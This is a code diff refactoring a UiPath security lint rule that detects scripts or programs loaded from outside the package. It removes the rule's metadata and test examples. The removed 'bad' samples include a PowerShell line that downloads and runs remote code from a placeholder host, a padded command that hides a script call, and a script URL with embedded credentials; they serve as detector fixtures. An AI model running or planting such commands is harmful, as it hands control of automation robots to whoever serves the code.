@@ -1,9 +1,9 @@
 /** A workflow runs a script or program from outside the package. */
 import { literalOf, propertyOf } from '../../model/navigate.ts';
-import { defineRule } from '../../model/rule.ts';
 import type { Activity, Property } from '../../model/workflow.ts';
 import { shownPlace } from '../../patterns/texts/shown-place.ts';
 import { isAbsolutePath, isProfilePath } from '../../semantics/local-path.ts';
+import { defineRule } from '../define-rule.ts';
 
 /** Property with the file, by activity type. */
 const FILES: ReadonlyMap<string, string> = new Map([
@@ -85,28 +85,7 @@ function runOf(activity: Activity): Run | undefined {
   return { at, path: text.trim().replace(/^"(.*)"$/, '$1') };
 }
 
-export const rule = defineRule({
-  id: 'UIP-SEC-020',
-  version: 2,
-  title: 'Script or executable loaded from outside the package',
-  platforms: ['uipath'],
-  category: 'security',
-  severity: 'high',
-  confidence: 'high',
-  kind: 'issue',
-  preset: 'recommended',
-  why: 'Whoever can write to that place decides what the robot runs, with the rights of the robot and without a new version of the process; and on another machine the file is missing.',
-  fix: 'Put the script into the project folder and name it by a relative path, so that it is published and versioned with the process. Install programs under C:\\Program Files, where only administrators can change them.',
-  compliance: ['CODE'],
-  controls: ['CWE-494', 'CWE-829'],
-  // The catalogue trusts System32 only; the rest of the Windows folder is equally protected.
-  options: {
-    trustedRoots: {
-      default: ['C:\\Program Files', 'C:\\Windows\\'] as readonly string[],
-      about: 'Folders that scripts and programs may be loaded from.',
-      stricter: 'shorter',
-    },
-  },
+export const rule = defineRule('UIP-SEC-020', {
   level: 'activity',
   types: [...FILES.keys()],
   *check(activity, { options }) {
@@ -118,32 +97,5 @@ export const rule = defineRule({
       message: `"${activity.name}" runs "${shownPlace(run.path)}" ${reason}.`,
       subject: run.at.name,
     };
-  },
-  examples: {
-    uipath: {
-      bad: [
-        `<ui:InvokePowerShell CommandText="${'Write-Output 1; '.repeat(1_500)}&amp; 'C:\\Tools\\run.ps1'" />`,
-        '<ui:StartProcess DisplayName="Run import" FileName="\\\\files\\tools\\import.exe" />',
-        '<ui:InjectJsScript ScriptCode="https://svc:Nordwind-71@files.example.com/fill.js?sig=Zq8Lw3Rt6Yp1" />',
-        '<ui:LoadScript File="C:\\Robot\\scripts\\transform.py" />',
-        '<ui:InvokeVBScript><ui:InvokeVBScript.FileName><InArgument x:TypeArguments="x:String">C:/Users/jane/sort.vbs</InArgument></ui:InvokeVBScript.FileName></ui:InvokeVBScript>',
-        `<ui:InvokePowerShell IsScript="True" CommandText="Set-Location C:\\; &amp; 'D:\\jobs\\clean.ps1' -Force" />`,
-        '<ui:StartProcess FileName="cmd.exe" Arguments="/c \\\\files\\tools\\run.bat -all" />',
-        '<ui:StartProcess FileName="C:\\Windows\\System32\\cscript.exe" Arguments="//B &quot;C:\\Robots\\sort.vbs&quot;" />',
-        '<ui:InvokePowerShell CommandText="C:\\Robots\\clean.ps1 -Force" />',
-        `<ui:InvokePowerShell CommandText="iex (New-Object Net.WebClient).DownloadString('https://files.example.com/setup')" />`,
-      ],
-      good: [
-        '<ui:StartProcess FileName="powershell.exe" Arguments="-File scripts\\clean.ps1 -List C:\\Data\\list.csv" />',
-        '<ui:StartProcess FileName="notepad.exe" Arguments="C:\\Data\\clean.ps1" />',
-        '<ui:InvokePowerShell CommandText="Copy-Item D:\\jobs\\a.ps1 -Destination D:\\old" />',
-        '<ui:LoadScript File="scripts\\transform.py" /><ui:StartProcess FileName="notepad.exe" />',
-        '<ui:StartProcess FileName="C:\\Program Files (x86)\\Tool\\tool.exe" /><ui:StartProcess FileName="C:\\Windows\\System32\\cmd.exe" />',
-        // Near misses: a document and a page are opened, not run; a script as text that names a file.
-        '<ui:StartProcess FileName="C:\\Data\\report.xlsx" /><ui:StartProcess FileName="https://portal.example.com/start" />',
-        `<ui:InvokePowerShell CommandText="Get-Content 'D:\\jobs\\list.ps1'" />`,
-        '<ui:StartProcess FileName="[in_Tool]" />',
-      ],
-    },
   },
 });
